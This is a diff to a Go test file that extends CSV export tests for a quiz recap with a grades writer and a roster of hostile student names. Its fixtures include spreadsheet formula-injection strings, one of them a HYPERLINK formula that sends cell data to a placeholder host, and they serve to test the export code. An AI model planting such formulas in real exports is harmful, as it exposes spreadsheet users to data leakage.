@@ -31,7 +31,7 @@ func hostileRecap() kuis.Recap {
 	return r
 }
 
-// csvWriters are the recap's three CSV csvWriters, by the file the archive names
+// csvWriters are the recap's CSV writers, by the file the archive names
 // after them.
 var csvWriters = []struct {
 	name  string
@@ -40,7 +40,14 @@ var csvWriters = []struct {
 	{"standings", func(r kuis.Recap, b *bytes.Buffer, o ...kuis.CSVOption) error { return r.WriteCSV(b, o...) }},
 	{"gradebook", func(r kuis.Recap, b *bytes.Buffer, o ...kuis.CSVOption) error { return r.WriteGradebookCSV(b, o...) }},
 	{"answers", func(r kuis.Recap, b *bytes.Buffer, o ...kuis.CSVOption) error { return r.WriteAnswersCSV(b, o...) }},
+	{"grades", func(r kuis.Recap, b *bytes.Buffer, o ...kuis.CSVOption) error {
+		return r.WriteGradesCSV(b, hostileRoster, o...)
+	}},
 }
+
+// hostileRoster enrols two of hostileRecap's participants and a student,
+// absent, whose name a spreadsheet would run.
+var hostileRoster = []kuis.Student{{ID: "s-01", Name: "@Citra"}, {ID: "s-02", Name: "=1+1"}, {ID: "s-03", Name: "Dewi"}}
 
 // TestCSVDefaultBytes pins the default form byte for byte: encoding/csv's,
 // names as stored, whatever a spreadsheet would make of them, so that an
@@ -50,20 +57,25 @@ func TestCSVDefaultBytes(t *testing.T) {
 	rows := []string{
 		`"=HYPERLINK(""http://x.example/?""&A1,""Ali"")"`, "+62 812", "-Budi-", "@Citra", "\"\tTab\"", "\"\rCR\"", "Søren", "a;=1+2", `"Siti, A."`, "Dewi",
 	}
-	var standings, gradebook, answers strings.Builder
+	var standings, gradebook, answers, grades strings.Builder
+	grades.WriteString("student_id,name,attendance,score,possible,q1,q2\n" +
+		"s-01,@Citra,present,10,20,1,0\n" + "s-02,=1+1,absent,,20,,\n" + "s-03,Dewi,present,10,20,1,0\n")
 	standings.WriteString("rank,competition_rank,participant,score,correct_answers\n")
 	gradebook.WriteString("participant,score,1,2\n")
 	answers.WriteString("participant,question,answered_at\n")
 	for i, n := range rows {
 		fmt.Fprintf(&standings, "%d,1,%s,10,1\n", i+1, n)
 		fmt.Fprintf(&gradebook, "%s,10,1,0\n", n)
+		if n != "@Citra" && n != "Dewi" {
+			fmt.Fprintf(&grades, ",%s,not_enrolled,10,20,1,0\n", n)
+		}
 		at := "2026-11-30T09:15:02.125Z"
 		if i == len(rows)-1 {
 			at = ""
 		}
 		fmt.Fprintf(&answers, "%s,1,%s\n", n, at)
 	}
-	want := map[string]string{"standings": standings.String(), "gradebook": gradebook.String(), "answers": answers.String()}
+	want := map[string]string{"standings": standings.String(), "gradebook": gradebook.String(), "answers": answers.String(), "grades": grades.String()}
 	for _, w := range csvWriters {
 		for _, opts := range [][]kuis.CSVOption{nil, {nil}} { // a nil option is no option
 			var buf bytes.Buffer
@@ -241,6 +253,8 @@ func TestCSVWriterErrors(t *testing.T) {
 					got = r.WriteGradebookCSV(fw, opts...)
 				case "answers":
 					got = r.WriteAnswersCSV(fw, opts...)
+				case "grades":
+					got = r.WriteGradesCSV(fw, hostileRoster, opts...)
 				}
 				if !errors.Is(got, errDiskFull) {
 					t.Errorf("%s, %d options, failing after %d bytes: %v, want %v", w.name, len(opts), n, got, errDiskFull)
